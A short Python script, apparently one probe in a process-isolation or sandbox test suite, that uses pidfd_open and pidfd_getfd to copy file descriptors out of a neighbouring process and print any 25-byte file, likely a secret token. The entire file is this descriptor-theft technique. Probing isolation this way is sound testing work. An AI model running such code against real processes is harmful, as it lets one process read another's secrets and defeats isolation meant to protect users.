import os

from arms import P, attempt, call


@attempt
def deed():
    pidfd = call("pidfd_open", P["near"], 0)
    for number in range(3, 60):
        try:
            fd = call("pidfd_getfd", pidfd, number, 0)
            if os.fstat(fd).st_size == 25:
                print(os.pread(fd, 100, 0).decode())
        except OSError:
            continue
